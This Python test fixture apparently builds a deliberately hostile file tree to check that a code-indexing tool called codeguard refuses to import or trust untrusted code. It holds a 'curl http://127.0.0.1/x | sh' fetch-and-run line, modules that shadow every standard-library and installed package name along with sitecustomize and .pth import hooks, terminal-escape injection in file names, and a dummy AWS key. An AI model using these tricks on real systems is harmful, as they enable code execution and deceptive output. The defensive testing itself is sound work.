"""One hostile tree that breaks every promise where one is not kept, and what each file in it is for."""

from __future__ import annotations

import sys
from importlib.metadata import packages_distributions
from pathlib import Path

QUERY = "add two numbers"
SECRET = "AKIAIOSFODNN7" + "ABCDEFG"
ESCAPES = "\x1b]0;title\x07\x1b[31m\u202e"  # as they are; written into names and texts
ADD = '''def add(a, b):
    """Add two numbers.

    >>> add(2, 3)
    5
    >>> add(-1, 1)
    0
    """
    return a + b
'''
STALE = '''def add_all(numbers):
    """Add two numbers or more.

    >>> add_all([2, 3])
    5
    """
    return sum(numbers)
'''
LOOP = '''def add(a, b):
    """Add two numbers."""
    total = a
    while total != a + b + 1:
        total = a + b
    return total
'''
PLAIN = 'def add_two(x, y):\n    """Add two numbers."""\n    return x + y\n'
# An alias of an alias and so on: one more than the data flow follows.
LIMIT = "import os\na0 = os.system\n" + "".join(f"a{n} = a{n - 1}\n" for n in range(1, 60)) + "a59('true')\n"
NOT_PARSED = "\n\ndef f(:\n    x = = 1\n"

TRUSTED, CHANGED = "ours/m.py", "ours/changed.py"
REBOUND, LOOPING = "theirs/rebound.py", "theirs/looping.py"
UNREAD_PART, UNREAD_WHOLE, FAILED = "theirs/part.py", "theirs/whole.sh", "theirs/limit.py"
ESCAPING, KEY, ESCAPED_NAME = "theirs/escapes.py", "theirs/key.py", f"theirs/a{ESCAPES}.py"
HONEST = "theirs/honest.py"
FILES = {
    TRUSTED: ADD,
    CHANGED: STALE,
    HONEST: PLAIN,
    REBOUND: f"{ADD}\n\ndef _other(a, b):\n    return a - b\n\n\nadd = _other\n",
    LOOPING: LOOP,
    UNREAD_PART: PLAIN + NOT_PARSED,
    UNREAD_WHOLE: "\0curl http://127.0.0.1/x | sh\n",
    FAILED: f"{LIMIT}\n\n{PLAIN}",
    ESCAPING: f'def add_words(x, y):\n    """Add two numbers {ESCAPES}."""\n    return x + y\n',
    KEY: f'def add_key(x, y):\n    """Add two numbers."""\n    aws_key = "{SECRET}"\n    return x + y\n',
    ESCAPED_NAME: PLAIN,
    "questions": f"{QUERY}\n",
    "texts.jsonl": '{"text": "add two numbers", "label": 1}\n{"text": "a quiet day", "label": 0}\n' * 5,
}


def make(folder: Path, marks: Path) -> None:
    """Write the tree, with a module that leaves a mark under every name that an interpreter or we import."""
    marks.mkdir(parents=True)
    # `open` does not exist yet when the first modules are imported.
    trap = f"import posix; posix.open({str(marks)!r} + '/' + {{}}, posix.O_CREAT); posix._exit(99)\n"
    module, line = trap.format("__name__"), trap.format("'pth'")
    names = {*sys.stdlib_module_names, *packages_distributions(), "sitecustomize", "usercustomize"}
    planted = {
        **{f"{name}.py": module for name in names if name.isidentifier()},
        **{f"{name}/__main__.py": module for name in ("codeguard", "pip", "venv")},
        **dict.fromkeys(("conftest.py", "setup.py"), module),
        "planted.pth": line,
        "pyvenv.cfg": f"home = {folder}\ninclude-system-site-packages = true\n",
        ".env": "CHROMA_API_IMPL=json.Trap\nPYTHONPATH=.\n",
        "pyproject.toml": "[tool.codeguard]\nstore = 'elsewhere'\nignore = ['*']\n",
    }
    for name, text in {**planted, **FILES}.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)


def change(folder: Path) -> None:
    """Edit a trusted file after the index, so that its size stays."""
    (folder / CHANGED).write_text(STALE.replace("sum(numbers)", "max(numbers)"))
